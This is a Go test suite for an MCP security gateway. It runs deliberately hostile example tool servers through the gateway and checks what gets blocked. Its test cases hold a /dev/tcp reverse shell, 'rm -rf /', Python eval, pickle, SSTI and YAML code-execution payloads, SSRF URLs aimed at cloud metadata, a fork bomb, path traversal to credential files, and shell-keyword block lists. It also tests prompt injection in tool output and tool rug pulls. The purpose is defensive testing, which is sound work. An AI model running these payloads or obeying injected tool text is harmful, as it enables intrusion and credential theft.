package main

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"secure-mcp-gateway/examples"
	"secure-mcp-gateway/guard"
	"secure-mcp-gateway/internal/config"
	"secure-mcp-gateway/proxy"
)

// withPolicies puts input, output and tool policies blocking the named
// offline detectors on s; a nil list leaves that policy off.
func withPolicies(s *config.Server, input, output, tool []string, extra map[string]any) *config.Server {
	if input != nil {
		s.InputGuardrailsPolicy = &config.Policy{Enabled: true, Block: input, AdditionalConfig: extra}
	}
	if output != nil {
		s.OutputGuardrailsPolicy = &config.Policy{Enabled: true, Block: output, AdditionalConfig: extra}
	}
	if tool != nil {
		s.ToolGuardrailsPolicy = &config.Policy{Enabled: true, Block: tool}
	}
	return s
}

// hostileCase is one call through the gateway and what must come back.
type hostileCase struct {
	tool string
	args map[string]any
	// want are substrings of the result text; with blocked, the result must
	// be an error.
	want    []string
	blocked bool
}

// runHostileCases makes every call and checks its result; it returns every
// result text for canary checks.
func runHostileCases(t *testing.T, g *gateway, cases []hostileCase) []string {
	t.Helper()
	var texts []string
	for _, c := range cases {
		r := g.call(t, c.tool, c.args)
		txt := resultText(r)
		texts = append(texts, txt)
		if r.IsError != c.blocked {
			t.Errorf("%s %v: isError=%v, want %v: %q", c.tool, c.args, r.IsError, c.blocked, txt)
		}
		for _, w := range c.want {
			if !strings.Contains(txt, w) {
				t.Errorf("%s %v = %q, want it to contain %q", c.tool, c.args, txt, w)
			}
		}
	}
	return texts
}

// assertListed checks which prefixed tools tools/list shows and which it
// withholds; a withheld tool must also be refused when called.
func assertListed(t *testing.T, g *gateway, listed, withheld []string) {
	t.Helper()
	names := g.toolNames(t)
	for _, n := range listed {
		if !contains(names, n) {
			t.Errorf("tool %s missing from %v", n, names)
		}
	}
	for _, n := range withheld {
		if contains(names, n) {
			t.Errorf("tool %s listed, want it withheld", n)
		}
		if r := g.call(t, n, map[string]any{}); !r.IsError || !strings.Contains(resultText(r), "withheld") {
			t.Errorf("call to withheld %s: isError=%v %q", n, r.IsError, resultText(r))
		}
	}
}

// assertNoCanary stops the gateway and checks that none of the canaries
// appears in texts, the gateway's stderr or the pin file.
func assertNoCanary(t *testing.T, f *fixture, g *gateway, texts []string, canaries []string) {
	t.Helper()
	g.cs.Close()
	g.cmd.Wait()
	pins, _ := os.ReadFile(filepath.Join(f.dir, guard.PinFileName))
	where := map[string]string{"stderr": g.stderr.String(), "pin file": string(pins), "tool results": strings.Join(texts, "\n")}
	for what, text := range where {
		for _, s := range canaries {
			if strings.Contains(text, s) {
				t.Errorf("%s contains the canary %q", what, s)
			}
		}
	}
}

func TestGuardCredentialTheft(t *testing.T) {
	detectors := []string{"secrets", "injection_attack", "hidden_text"}
	f := newFixture(t, withPolicies(exampleServer("cred", "credential_theft", nil), detectors, detectors, detectors, nil))
	g := startGateway(t, f)
	// The descriptions are innocent: nothing is withheld; the outputs are
	// where the credentials are.
	assertListed(t, g, []string{"cred__get_environment_info", "cred__export_logs", "cred__backup_configuration",
		"cred__test_api_connection", "cred__share_workspace", "cred__debug_authentication"}, nil)
	out := func(rules string) []string {
		return []string{`blocked by output guardrails: secrets (` + rules, "the result was withheld"}
	}
	texts := runHostileCases(t, g, []hostileCase{
		{"cred__get_environment_info", nil, out("aws_access_key_id, aws_secret_access_key, github_token, stripe_key, url_credentials)"), true},
		{"cred__export_logs", map[string]any{"log_type": "all", "remote_url": "https://logs.example.net/upload"}, out("jwt, password_assignment)"), true},
		{"cred__backup_configuration", map[string]any{"destination": "local"}, out("slack_token, stripe_key)"), true},
		{"cred__test_api_connection", map[string]any{"api_endpoint": "https://api.example.net/v1"}, out("jwt, password_assignment)"), true},
		{"cred__share_workspace", map[string]any{"email": "colleague@example.net"}, out("password_assignment)"), true},
		{"cred__debug_authentication", nil, out("aws_access_key_id, jwt, private_key)"), true},
		// A secret in the arguments never reaches the upstream.
		{"cred__test_api_connection", map[string]any{"api_endpoint": "https://x.example.net/?token=" + examples.FakeSecrets()[4]},
			[]string{"blocked by input guardrails: secrets (", "the arguments were not forwarded"}, true},
	})
	assertNoCanary(t, f, g, texts, append(examples.FakeSecrets(), f.key))
}

func TestGuardPathTraversal(t *testing.T) {
	detectors := []string{"secrets", "tool_poisoning", "injection_attack"}
	f := newFixture(t, withPolicies(exampleServer("fs", "path_traversal", nil), detectors, detectors, []string{"injection_attack", "hidden_text"}, nil))
	g := startGateway(t, f)
	assertListed(t, g, []string{"fs__read_file", "fs__list_directory", "fs__copy_file", "fs__extract_archive", "fs__create_symlink"}, nil)
	in := []string{"blocked by input guardrails: tool_poisoning (sensitive_path)", "the arguments were not forwarded"}
	texts := runHostileCases(t, g, []hostileCase{
		// Paths to sensitive files are refused before the upstream sees them.
		{"fs__read_file", map[string]any{"file_path": "/etc/passwd"}, in, true},
		{"fs__read_file", map[string]any{"file_path": "../../.ssh/id_rsa"}, in, true},
		{"fs__copy_file", map[string]any{"source": "/etc/shadow", "destination": "out.txt"}, in, true},
		{"fs__create_symlink", map[string]any{"target": "/home/u/.aws/credentials", "link_name": "creds"}, in, true},
		// A traversal to a file with an unremarkable name passes the input
		// check; what it "reads" holds a password and is withheld.
		{"fs__read_file", map[string]any{"file_path": "../../../srv/app/settings.ini"},
			[]string{"blocked by output guardrails: secrets (password_assignment)", "the result was withheld"}, true},
		// Listings and archive entries naming sensitive files are withheld.
		{"fs__list_directory", map[string]any{"directory": "home"}, []string{"blocked by output guardrails: tool_poisoning (sensitive_path)"}, true},
		{"fs__extract_archive", map[string]any{"archive_path": "upload.zip"}, []string{"blocked by output guardrails: tool_poisoning (sensitive_path)"}, true},
		// Ordinary use still works.
		{"fs__read_file", map[string]any{"file_path": "notes/todo.txt"}, []string{"Contents of notes/todo.txt:\nhello"}, false},
		{"fs__copy_file", map[string]any{"source": "a.txt", "destination": "b.txt"}, []string{"Copied a.txt to b.txt"}, false},
	})
	assertNoCanary(t, f, g, texts, append(examples.FakeSecrets(), "root:x:0:0", f.key))
}

func TestGuardCommandInjection(t *testing.T) {
	// No built-in detector knows shell syntax: the policy lists the payload
	// fragments this deployment refuses as keywords.
	keywords := map[string]any{"keywords": []any{"rm -rf", "/dev/tcp", "nc -e", "mkfifo", "| bash", "--checkpoint-action", "--run-script"}}
	f := newFixture(t, withPolicies(exampleServer("sh", "command_injection", nil),
		[]string{"keyword_detector", "injection_attack"}, []string{"keyword_detector", "injection_attack"}, []string{"injection_attack", "hidden_text"}, keywords))
	g := startGateway(t, f)
	tools := []string{"sh__ping_host", "sh__convert_image", "sh__search_files", "sh__run_analysis", "sh__compress_logs", "sh__generate_pdf"}
	assertListed(t, g, tools, nil)
	out := []string{"blocked by output guardrails: keyword_detector (keyword)", "the result was withheld"}
	in := []string{"blocked by input guardrails: keyword_detector (keyword)", "the arguments were not forwarded"}
	texts := runHostileCases(t, g, []hostileCase{
		// Payloads in the arguments are refused before the upstream runs.
		{"sh__ping_host", map[string]any{"hostname": "example.com; rm -rf /"}, in, true},
		{"sh__run_analysis", map[string]any{"script_name": "a.py", "args": "x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}, in, true},
		{"sh__compress_logs", map[string]any{"log_path": "app.log", "compression_type": "gz --checkpoint-action=exec=sh x.sh"}, in, true},
		// Outputs echoing payloads and reverse shells are withheld.
		{"sh__ping_host", map[string]any{"hostname": "example.com"}, out, true},
		{"sh__convert_image", map[string]any{"input_file": "a.png", "output_format": "jpeg"}, out, true},
		{"sh__search_files", map[string]any{"pattern": "TODO", "directory": "."}, out, true},
		{"sh__run_analysis", map[string]any{"script_name": "a.py"}, out, true},
		{"sh__compress_logs", map[string]any{"log_path": "app.log"}, out, true},
		{"sh__generate_pdf", map[string]any{"input_file": "a.html"}, out, true},
	})
	assertNoCanary(t, f, g, texts, []string{"/dev/tcp/10.0.0.1", "rm -rf /", "mkfifo /tmp/f", f.key})
}

func TestGuardPreferenceManipulation(t *testing.T) {
	f := newFixture(t, withPolicies(exampleServer("pm", "mpma", nil),
		[]string{"injection_attack"}, []string{"injection_attack", "tool_poisoning"}, []string{"injection_attack", "hidden_text"}, nil))
	g := startGateway(t, f)
	// elite_search_engine only claims authority and social proof, with no
	// imperative about other tools: the offline rules do not flag it.
	assertListed(t, g, []string{"pm__basic_weather", "pm__elite_search_engine"},
		[]string{"pm__premium_weather_lookup", "pm__calculate_premium", "pm__urgent_time_service", "pm__must_use_converter", "pm__ultimate_best_tool"})
	runHostileCases(t, g, []hostileCase{
		{"pm__basic_weather", map[string]any{"location": "Oslo"}, []string{"Cloudy in Oslo."}, false},
	})
	g.cs.Close()
	g.cmd.Wait()
	// The log gives the reason: the rule that fired, per tool.
	for _, tool := range []string{"premium_weather_lookup", "must_use_converter", "ultimate_best_tool"} {
		if !logHas(g.stderr.String(), tool, "preference_manipulation") {
			t.Errorf("no log line names the preference_manipulation finding of %s", tool)
		}
	}
}

// logHas reports whether some JSON log line mentions tool and rule.
func logHas(log, tool, rule string) bool {
	for line := range strings.Lines(log) {
		var m map[string]any
		if json.Unmarshal([]byte(line), &m) == nil && strings.Contains(line, `"`+tool+`"`) && strings.Contains(line, rule) {
			return true
		}
	}
	return false
}

func TestGuardQuietRugPull(t *testing.T) {
	state := filepath.Join(t.TempDir(), "quiet.state")
	f := newFixture(t, exampleServer("qr", "quiet_rugpull", map[string]string{examples.EnvQuietRugPullState: state}))
	g := startGateway(t, f)
	if names := g.toolNames(t); !contains(names, "qr__fetch_page") || !contains(names, "qr__get_time") {
		t.Fatalf("tools at first = %v", names)
	}
	if r := g.call(t, "qr__fetch_page", map[string]any{"url": "https://example.com"}); r.IsError {
		t.Fatalf("first call: %s", resultText(r))
	}
	// The upstream has silently changed (it serves the new definition from
	// its second listing on) but sent no list_changed: this gateway has no
	// reason to list it again, and the definition it pinned is unchanged.
	if _, err := os.Stat(state); err != nil {
		t.Fatalf("the upstream did not record its rug pull: %v", err)
	}
	g.cs.Close()
	g.cmd.Wait()

	// The next discovery sees the changed definition and withholds it. A
	// new gateway process on the same config answers tools/list from the
	// discovery cache and lists the upstream live once it starts: here for
	// a call of the unchanged tool, which keeps working.
	g2 := startGateway(t, f)
	if r := g2.call(t, "qr__get_time", nil); r.IsError || resultText(r) != "12:00 UTC" {
		t.Errorf("unchanged tool: isError=%v %q", r.IsError, resultText(r))
	}
	waitFor(t, 20e9, "the changed tool to be withheld", func() bool { return !contains(g2.toolNames(t), "qr__fetch_page") })
	r := g2.call(t, "qr__fetch_page", map[string]any{"url": "https://example.com"})
	for _, want := range []string{"definition changed since it was pinned", "secure-mcp-gateway tools diff --server qr --tool fetch_page", "tools approve --server qr --tool fetch_page"} {
		if !r.IsError || !strings.Contains(resultText(r), want) {
			t.Errorf("call after the quiet rug pull: isError=%v %q, want %q", r.IsError, resultText(r), want)
		}
	}
	if r := g2.call(t, "qr__get_time", nil); r.IsError || resultText(r) != "12:00 UTC" {
		t.Errorf("unchanged tool after the rug pull was caught: isError=%v %q", r.IsError, resultText(r))
	}
	g2.cs.Close()
	g2.cmd.Wait()

	diff := runCLI(t, "--config", f.path, "tools", "diff", "--server", "qr", "--tool", "fetch_page")
	if !strings.Contains(diff, "description") || !strings.Contains(diff, "headers") {
		t.Errorf("tools diff does not show the changed description and schema:\n%s", diff)
	}
}

// TestGuardQuietRugPullSameSession forces a second discovery inside one
// gateway session through the meta-tools (clear the server's cached tools,
// discover it again): the same upstream session now lists the changed
// definition, and the gateway withholds it at once.
func TestGuardQuietRugPullSameSession(t *testing.T) {
	f := newFixture(t, exampleServer("qr", "quiet_rugpull", nil))
	f.cfg.Common.ToolExposure = config.ToolExposureMeta
	f.save(t)
	g := startGateway(t, f)
	discovered := func() (tools, blocked []string, m map[string]any) {
		m = metaJSON(t, g, proxy.MetaDiscoverAllTools, map[string]any{"server_name": "qr"})
		for i := range 10 {
			if n, ok := path(m, "tools", i, "name").(string); ok {
				tools = append(tools, n)
			}
		}
		b, _ := json.Marshal(m["blocked_tools"])
		for _, n := range []string{"fetch_page", "get_time"} {
			if strings.Contains(string(b), n) {
				blocked = append(blocked, n)
			}
		}
		return tools, blocked, m
	}
	tools, blocked, m := discovered()
	slices.Sort(tools)
	if !slices.Equal(tools, []string{"fetch_page", "get_time"}) || len(blocked) != 0 {
		t.Fatalf("first discovery: %v", m)
	}
	if m := metaJSON(t, g, proxy.MetaClearCache, map[string]any{"server_name": "qr"}); m["status"] == "error" {
		t.Fatalf("clear cache: %v", m)
	}
	tools, blocked, m = discovered()
	if !slices.Equal(tools, []string{"get_time"}) || !slices.Equal(blocked, []string{"fetch_page"}) {
		t.Fatalf("second discovery in the same session: %v", m)
	}
	b, _ := json.Marshal(m["blocked_reasons"])
	if !strings.Contains(string(b), "tools approve --server qr --tool fetch_page") {
		t.Errorf("blocked reason does not give the approve hint: %s", b)
	}
	r := g.call(t, proxy.MetaSecureCallTools, map[string]any{"server_name": "qr", "tool_calls": []any{
		map[string]any{"name": "fetch_page", "args": map[string]any{"url": "https://example.com"}}}})
	if txt := resultText(r); strings.Contains(txt, "<html>") || !strings.Contains(txt, "tools approve --server qr --tool fetch_page") {
		t.Errorf("call of the changed tool: %s", txt)
	}
}

// TestExampleServerList checks that `example-server --list` prints every
// bundled example with its description.
func TestExampleServerList(t *testing.T) {
	out := runCLI(t, "example-server", "--list")
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	if len(lines) != len(examples.Names()) {
		t.Errorf("--list printed %d lines for %d examples:\n%s", len(lines), len(examples.Names()), out)
	}
	for _, name := range examples.Names() {
		found := false
		for _, l := range lines {
			if f := strings.Fields(l); len(f) > 1 && f[0] == name && strings.Contains(l, examples.Describe(name)) {
				found = true
			}
		}
		if !found {
			t.Errorf("--list has no line for %s with its description %q:\n%s", name, examples.Describe(name), out)
		}
	}
	for _, name := range []string{"credential_theft", "path_traversal", "command_injection", "mpma", "quiet_rugpull",
		"bad_mcp", "session_management", "resource_exhaustion", "unauthenticated_access", "rce", "ssrf"} {
		if !slices.Contains(examples.Names(), name) {
			t.Errorf("example %s is not registered", name)
		}
	}
}

// TestGuardQuietRugPullFirstCallRefused: a new gateway answers tools/list
// from the discovery cache, and the session's first call is to the tool that
// quietly changed. The gateway checks the live definition before the
// upstream runs the call, so the call is refused with the pin hint.
func TestGuardQuietRugPullFirstCallRefused(t *testing.T) {
	state := filepath.Join(t.TempDir(), "quiet.state")
	f := newFixture(t, exampleServer("qr", "quiet_rugpull", map[string]string{examples.EnvQuietRugPullState: state}))
	g := startGateway(t, f)
	if names := g.toolNames(t); !contains(names, "qr__fetch_page") {
		t.Fatalf("tools at first = %v", names)
	}
	g.call(t, "qr__fetch_page", map[string]any{"url": "https://example.com"})
	g.cs.Close()
	g.cmd.Wait()

	g2 := startGateway(t, f)
	if names := g2.toolNames(t); !contains(names, "qr__fetch_page") {
		t.Fatalf("cached tools of the second process = %v", names)
	}
	r := g2.call(t, "qr__fetch_page", map[string]any{"url": "https://example.com"})
	if !r.IsError || !strings.Contains(resultText(r), "tools approve --server qr --tool fetch_page") {
		t.Errorf("first call to the quietly changed tool: isError=%v %q", r.IsError, resultText(r))
	}
}

// annotationsOf returns the annotations the client sees for each prefixed
// tool.
func annotationsOf(t *testing.T, g *gateway) map[string]*mcp.ToolAnnotations {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	res, err := g.cs.ListTools(ctx, nil)
	if err != nil {
		t.Fatalf("tools/list: %v", err)
	}
	m := map[string]*mcp.ToolAnnotations{}
	for _, tool := range res.Tools {
		m[tool.Name] = tool.Annotations
	}
	return m
}

// TestGuardBadMCP runs the deceptive-naming server: benign names and
// descriptions, annotations that lie. No offline detector reads intent from
// a name or checks a hint against behaviour, so every tool is listed with its
// hints as declared; outputs that carry secrets or an injection are
// withheld, and the rest (the admitted "hidden effect") reaches the client.
// After the injection, the toxic-flow rule no longer takes this server's
// word: its tool that falsely declares openWorldHint: false is refused like
// the one without the hint.
func TestGuardBadMCP(t *testing.T) {
	f := newFixture(t, withPolicies(exampleServer("bad", "bad_mcp", nil),
		[]string{"secrets", "injection_attack"}, []string{"secrets", "injection_attack", "hidden_text"}, []string{"injection_attack", "hidden_text", "tool_poisoning"}, nil))
	g := startGateway(t, f)
	assertListed(t, g, []string{"bad__cleanup_temp_files", "bad__export_configuration", "bad__optimize_cpu_usage",
		"bad__analyze_network_traffic", "bad__install_security_update", "bad__backup_database"}, nil)
	ann := annotationsOf(t, g)
	if a := ann["bad__backup_database"]; a == nil || !a.ReadOnlyHint || a.OpenWorldHint == nil || *a.OpenWorldHint {
		t.Errorf("backup_database reaches the client with annotations %+v, want the upstream's (false) readOnlyHint and openWorldHint: false", a)
	}
	texts := runHostileCases(t, g, []hostileCase{
		// Not caught offline: the output only admits what the tool did.
		{"bad__cleanup_temp_files", nil, []string{"Cleaned /tmp", "HIDDEN EFFECT"}, false},
		{"bad__optimize_cpu_usage", map[string]any{"intensity": 3}, []string{"miner"}, false},
		// The "read-only" configuration view exposes credentials.
		{"bad__export_configuration", nil, []string{"blocked by output guardrails: secrets (aws_secret_access_key, github_token)", "the result was withheld"}, true},
		{"bad__analyze_network_traffic", nil, []string{"blocked by output guardrails: injection_attack (instruction_override, system_marker)", "the result was withheld"}, true},
		// The injection asked for backup_database, which declares
		// openWorldHint: false; the server returned the injection, so its
		// hints no longer count.
		{"bad__backup_database", map[string]any{"remote_url": "https://drop.attacker.example/db"}, []string{`the tools of server "bad" are refused for the rest of the session whatever their hints say`, `a result of tool "analyze_network_traffic"`}, true},
		{"bad__install_security_update", nil, []string{"refused", `a result of tool "analyze_network_traffic"`}, true},
	})
	assertNoCanary(t, f, g, texts, append(examples.FakeSecrets(), f.key))
}

// TestGuardSessionManagement runs the session-management server: tokens in
// arguments are refused before the upstream sees them, and every output that
// hands out a token or another user's key is withheld. A server that
// extends sessions forever or accepts any token says nothing a detector can
// see.
func TestGuardSessionManagement(t *testing.T) {
	f := newFixture(t, withPolicies(exampleServer("sess", "session_management", nil),
		[]string{"secrets", "injection_attack"}, []string{"secrets", "injection_attack"}, []string{"injection_attack", "hidden_text", "tool_poisoning"}, nil))
	g := startGateway(t, f)
	assertListed(t, g, []string{"sess__forward_api_request", "sess__oauth_connect", "sess__get_user_context",
		"sess__extend_session", "sess__share_session", "sess__validate_token"}, nil)
	out := func(rules string) []string {
		return []string{"blocked by output guardrails: secrets (" + rules + ")", "the result was withheld"}
	}
	texts := runHostileCases(t, g, []hostileCase{
		// A user's token passed as an argument never reaches the server.
		{"sess__validate_token", map[string]any{"token": examples.FakeSecrets()[5]}, []string{"blocked by input guardrails: secrets (jwt)", "the arguments were not forwarded"}, true},
		{"sess__forward_api_request", map[string]any{"target_api": "https://api.example.net", "endpoint": "/v1/me"}, out("jwt"), true},
		{"sess__oauth_connect", map[string]any{"provider": "idp.example.net"}, out("password_assignment"), true},
		{"sess__get_user_context", nil, out("password_assignment"), true},
		{"sess__share_session", map[string]any{"recipient_email": "eve@example.net"}, out("jwt"), true},
		// Not caught offline: no secret in the text.
		{"sess__extend_session", nil, []string{"Expiry: never"}, false},
		{"sess__validate_token", map[string]any{"token": "abc"}, []string{"Valid: True, Role: administrator"}, false},
	})
	assertNoCanary(t, f, g, texts, append(examples.FakeSecrets(), f.key))
}

// TestGuardResourceExhaustion runs the DoS server. Its tools only describe
// the work their inputs would cause, which no offline detector flags; a
// degenerate argument (a repeated entity reference, the shape of a billion
// laughs payload) is refused by sponge_attack before the upstream sees it.
func TestGuardResourceExhaustion(t *testing.T) {
	f := newFixture(t, withPolicies(exampleServer("dos", "resource_exhaustion", nil),
		[]string{"sponge_attack", "injection_attack"}, []string{"sponge_attack", "injection_attack", "secrets"}, []string{"injection_attack", "hidden_text", "tool_poisoning"}, nil))
	g := startGateway(t, f)
	tools := []string{"dos__process_large_dataset", "dos__generate_thumbnail", "dos__calculate_hash", "dos__search_database", "dos__render_template", "dos__batch_process"}
	assertListed(t, g, tools, nil)
	runHostileCases(t, g, []hostileCase{
		{"dos__render_template", map[string]any{"template": strings.Repeat("&lol;", 2000)}, []string{"blocked by input guardrails: sponge_attack (repetition)", "the arguments were not forwarded"}, true},
		// Not caught offline: large numbers are ordinary arguments, and the
		// outputs are plain prose.
		{"dos__process_large_dataset", map[string]any{"size_mb": 100000}, []string{"load 100000 MB"}, false},
		{"dos__generate_thumbnail", map[string]any{"width": 100000, "height": 100000, "image_url": "https://img.example.net/a.png"}, []string{"decompression bomb"}, false},
		{"dos__calculate_hash", map[string]any{"algorithm": "bcrypt", "iterations": 1000000000}, []string{"1000000000 rounds"}, false},
		{"dos__search_database", map[string]any{"query": "x"}, []string{"WITH RECURSIVE"}, false},
		{"dos__render_template", map[string]any{"template": "Hello {{name}}"}, []string{"billion laughs"}, false},
		{"dos__batch_process", map[string]any{"item_count": 5}, []string{":(){ :|:& };:"}, false},
	})
}

// TestGuardUnauthenticatedAccess runs the zero-auth server. The gateway
// cannot add authentication to an upstream; what it can do is expose only
// the tools the config allows (the admin, delete, command and source tools
// are withheld by the allow-list) and withhold outputs that dump PII and
// keys.
func TestGuardUnauthenticatedAccess(t *testing.T) {
	s := withPolicies(exampleServer("db", "unauthenticated_access", nil),
		[]string{"secrets", "injection_attack"}, []string{"pii", "secrets", "injection_attack"}, []string{"injection_attack", "hidden_text", "tool_poisoning"}, nil)
	s.Tools = map[string]json.RawMessage{"read_database": json.RawMessage(`"Run a read-only query"`), "export_customer_data": json.RawMessage(`{}`), "admin_panel": json.RawMessage(`{"enabled": false}`)}
	f := newFixture(t, s)
	g := startGateway(t, f)
	names := g.toolNames(t)
	slices.Sort(names)
	if want := []string{"db__export_customer_data", "db__read_database"}; !slices.Equal(names, want) {
		t.Errorf("tools = %v, want only the allowed %v", names, want)
	}
	// A tool outside the allow-list does not exist for the client.
	for _, n := range []string{"db__admin_panel", "db__delete_records", "db__execute_command", "db__modify_source_code"} {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		r, err := g.cs.CallTool(ctx, &mcp.CallToolParams{Name: n, Arguments: map[string]any{}})
		cancel()
		if err == nil || !strings.Contains(err.Error(), "unknown tool") {
			t.Errorf("call to %s outside the allow-list: err=%v result=%+v, want unknown tool", n, err, r)
		}
	}
	texts := runHostileCases(t, g, []hostileCase{
		{"db__read_database", map[string]any{"query": "SELECT * FROM users"}, []string{"blocked by output guardrails: pii (card, email, ssn); secrets (stripe_key)", "the result was withheld"}, true},
		{"db__export_customer_data", nil, []string{"blocked by output guardrails: pii (card, email, phone)", "the result was withheld"}, true},
	})
	assertNoCanary(t, f, g, texts, append(examples.FakeSecrets(), "219-09-9999", "4111 1111 1111 1111", f.key))
}

// TestGuardRCE runs the code-execution server twice: with the offline
// content detectors only, its payloads (eval, pickle, SSTI, YAML tags) pass
// in both directions, except the JSON gadget's ldap:// URL, which ssrf
// finds; with the payload fragments as keywords, they are refused in the
// arguments and withheld in the outputs. A payload in an opaque encoding
// (base64 pickle) passes the input check.
func TestGuardRCE(t *testing.T) {
	content := []string{"injection_attack", "secrets", "hidden_text"}
	keywords := map[string]any{"keywords": []any{"__import__", "__reduce__", "__class__", "__subclasses__", "!!python/", `"@type"`}}
	tool := []string{"injection_attack", "hidden_text", "tool_poisoning"}
	plain := withPolicies(exampleServer("plain", "rce", nil), content, append(slices.Clone(content), "ssrf"), tool, nil)
	kw := withPolicies(exampleServer("rce", "rce", nil), []string{"keyword_detector", "injection_attack"}, []string{"keyword_detector", "injection_attack"}, tool, keywords)
	f := newFixture(t, plain, kw)
	g := startGateway(t, f)
	assertListed(t, g, []string{"plain__evaluate_expression", "rce__evaluate_expression", "rce__deserialize_object", "rce__render_markdown", "rce__load_yaml_config", "rce__process_json"}, nil)
	in := []string{"blocked by input guardrails: keyword_detector (keyword)", "the arguments were not forwarded"}
	out := []string{"blocked by output guardrails: keyword_detector (keyword)", "the result was withheld"}
	runHostileCases(t, g, []hostileCase{
		// Not caught by the content detectors.
		{"plain__evaluate_expression", map[string]any{"expression": "__import__('os').system('id')"}, []string{"eval(__import__('os').system('id'))", "nothing was evaluated"}, false},
		{"plain__render_markdown", map[string]any{"markdown": "{{ ''.__class__.__mro__ }}"}, []string{"__subclasses__"}, false},
		{"plain__load_yaml_config", map[string]any{"yaml_content": "!!python/object/apply:os.system ['id']"}, []string{"!!python/object/apply"}, false},
		{"plain__process_json", map[string]any{"json_data": "{}"}, []string{"blocked by output guardrails: ssrf (scheme)", "the result was withheld"}, true},
		// With the fragments as keywords.
		{"rce__evaluate_expression", map[string]any{"expression": "__import__('os').system('id')"}, in, true},
		{"rce__render_markdown", map[string]any{"markdown": "{{ ''.__class__.__mro__ }}"}, in, true},
		{"rce__load_yaml_config", map[string]any{"yaml_content": "!!python/object/apply:os.system ['id']"}, in, true},
		{"rce__process_json", map[string]any{"json_data": `{"@type":"com.sun.rowset.JdbcRowSetImpl"}`}, in, true},
		{"rce__deserialize_object", map[string]any{"pickle_data": "Y29zCnN5c3RlbQooUydpZCcKdFIu"}, out, true},
		{"rce__evaluate_expression", map[string]any{"expression": "1+1"}, out, true},
	})
}

// TestGuardSSRF runs the SSRF server with the opt-in argument detectors on
// the input: metadata, loopback and file:// targets, in any spelling, are
// refused before the upstream sees them. A DNS name that points at the
// metadata address is not resolved by the guard and passes; the credentials
// it "returns" are withheld by the output secrets policy.
func TestGuardSSRF(t *testing.T) {
	f := newFixture(t, withPolicies(exampleServer("web", "ssrf", nil),
		[]string{"ssrf", "path_traversal"}, []string{"secrets", "ssrf", "injection_attack"}, []string{"injection_attack", "hidden_text", "tool_poisoning"}, nil))
	g := startGateway(t, f)
	assertListed(t, g, []string{"web__fetch_url", "web__check_availability", "web__proxy_request", "web__validate_webhook"}, nil)
	in := func(rules string) []string {
		return []string{"blocked by input guardrails: " + rules, "the arguments were not forwarded"}
	}
	texts := runHostileCases(t, g, []hostileCase{
		{"web__fetch_url", map[string]any{"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/admin"}, in("ssrf (metadata)"), true},
		{"web__fetch_url", map[string]any{"url": "http://[::ffff:169.254.169.254]/latest/meta-data/"}, in("ssrf (metadata)"), true},
		{"web__fetch_url", map[string]any{"url": "http://2852039166/latest/meta-data/"}, in("ssrf (metadata)"), true},
		{"web__fetch_url", map[string]any{"url": "http://metadata.google.internal/computeMetadata/v1/"}, in("ssrf (metadata)"), true},
		{"web__fetch_url", map[string]any{"url": "file:///etc/passwd"}, in("path_traversal (sensitive_file); ssrf (scheme)"), true},
		{"web__fetch_url", map[string]any{"url": "http://localhost:8080/admin"}, in("ssrf (loopback)"), true},
		{"web__validate_webhook", map[string]any{"webhook_url": "http://127.0.0.1:2375/containers/json"}, in("ssrf (loopback)"), true},
		{"web__proxy_request", map[string]any{"target_url": "gopher://127.0.0.1:6379/_FLUSHALL"}, in("ssrf (scheme)"), true},
		{"web__check_availability", map[string]any{"service_url": "http://10.0.0.5:9200/"}, in("ssrf (private)"), true},
		// Not resolved, so not caught at the input; the output is.
		{"web__fetch_url", map[string]any{"url": "http://169.254.169.254.nip.io/latest/meta-data/"},
			[]string{"blocked by output guardrails: secrets (aws_access_key_id, password_assignment)", "the result was withheld"}, true},
		// Outputs naming internal URLs are withheld; a port list without
		// URLs is not caught by ssrf.
		{"web__proxy_request", map[string]any{"target_url": "https://example.com/"}, []string{"blocked by output guardrails: ssrf (private, scheme)"}, true},
		{"web__check_availability", map[string]any{"service_url": "https://status.example.com/"}, []string{"127.0.0.1:6379 redis OPEN"}, false},
		{"web__fetch_url", map[string]any{"url": "https://example.com/"}, []string{"<html>Example page</html>"}, false},
	})
	assertNoCanary(t, f, g, texts, append(examples.FakeSecrets(), "root:x:0:0", f.key))
}
